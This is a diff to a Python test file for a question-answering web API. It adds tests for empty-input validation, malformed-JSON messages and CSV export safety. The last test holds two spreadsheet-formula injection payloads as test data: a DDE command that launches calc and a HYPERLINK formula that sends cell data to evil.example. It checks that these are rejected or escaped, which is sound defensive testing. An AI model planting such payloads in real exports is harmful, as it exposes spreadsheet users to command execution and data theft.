@@ -246,13 +246,28 @@ def test_stream_bad_input_is_4xx_before_streaming(client: TestClient) -> None:
     assert response.status_code == 422
 
 
-def test_stream_input_error_from_assistant_is_422(client: TestClient) -> None:
-    # The assistant's own check (a question of invisible characters only) maps to a JSON 422.
-    response = client.post("/api/ask", json={"question": "\u200b"})
+@pytest.mark.parametrize("question", ["", "   ", "\u200b", "\u200b\u200d\ufeff", "\u2800 \n"])
+def test_empty_and_invisible_only_questions_get_the_same_422(  # #15.17
+    client: TestClient, question: str
+) -> None:
+    for path in ("/api/ask", "/api/ask/stream", "/api/pack"):
+        response = client.post(path, json={"question": question})
+        assert response.status_code == 422, (path, response.text)
+        assert response.json()["error"]["code"] == "question_empty", (path, response.text)
+
+
+def test_malformed_json_names_the_body_not_a_number(client: TestClient) -> None:  # #15.17
+    response = client.post(
+        "/api/ask",
+        content=b'{"question": "x",, "audience": "officer"}',
+        headers={"Content-Type": "application/json"},
+    )
     assert response.status_code == 422
-    response = client.post("/api/ask/stream", json={"question": "\u200b"})
-    assert response.status_code == 422
-    assert response.json()["error"]["code"] == "invalid_input"
+    error = response.json()["error"]
+    assert error["code"] == "invalid_request"
+    assert error["details"] == [{"field": "body", "problem": error["details"][0]["problem"]}]
+    assert error["message"].startswith("The request body is not valid JSON at character 17")
+    assert not error["message"].startswith("17")
 
 
 # --- feedback ---------------------------------------------------------------------------------
@@ -428,13 +443,16 @@ def test_admin_feedback_csv_and_gaps(api_settings: Settings, fake_assistant: Fak
     with _admin_client(api_settings, "s3cret", assistant=fake_assistant) as client:
         good = client.post("/api/ask", json={"question": QUESTION}).json()["id"]
         refused = client.post("/api/ask", json={"question": "Who will win the election?"}).json()
-        client.post("/api/feedback", json={"answer_id": good, "rating": "up", "reasons": ["Clear"]})
+        client.post(
+            "/api/feedback",
+            json={"answer_id": good, "rating": "up", "reasons": ["Clear and easy to read"]},
+        )
         response = client.get("/api/admin/feedback.csv", headers=auth)
         assert response.status_code == 200
         assert response.headers["content-type"].startswith("text/csv")
         rows = list(csv.DictReader(io.StringIO(response.text)))
         assert [(r["answer_id"], r["rating"], r["reasons"]) for r in rows] == [
-            (good, "up", "Clear")
+            (good, "up", "Clear and easy to read")
         ]
         gaps = client.get("/api/admin/gaps", headers=auth).json()["groups"]
         ids = {q["answer_id"] for g in gaps for q in g["questions"]}
@@ -537,3 +555,32 @@ def test_blocking_calls_run_off_the_event_loop(api_settings: Settings) -> None:
         loop_id = client.get("/_loop_thread").json()["id"]
     assert loop_threads and loop_id not in loop_threads
     assert isinstance(app.state.lga, AppState)
+
+
+def test_feedback_reasons_must_be_known_and_the_csv_runs_no_formula(  # #15.6
+    api_settings: Settings, fake_assistant: FakeAssistant
+) -> None:
+    auth = {"Authorization": "Bearer s3cret"}
+    with _admin_client(api_settings, "s3cret", assistant=fake_assistant) as client:
+        answer_id = client.post("/api/ask", json={"question": QUESTION}).json()["id"]
+        bad = client.post(
+            "/api/feedback",
+            json={"answer_id": answer_id, "rating": "down", "reasons": ["=cmd|' /C calc'!A0"]},
+        )
+        assert bad.status_code == 422
+        assert bad.json()["error"]["code"] == "invalid_input"
+        assert "Not accurate" in bad.json()["error"]["message"]
+        ok = client.post(
+            "/api/feedback",
+            json={
+                "answer_id": answer_id,
+                "rating": "down",
+                "reasons": ["Not accurate"],
+                "comment": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            },
+        )
+        assert ok.status_code == 201, ok.text
+        text = client.get("/api/admin/feedback.csv", headers=auth).text
+    (row,) = list(csv.DictReader(io.StringIO(text)))
+    assert row["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["reasons"] == "Not accurate"
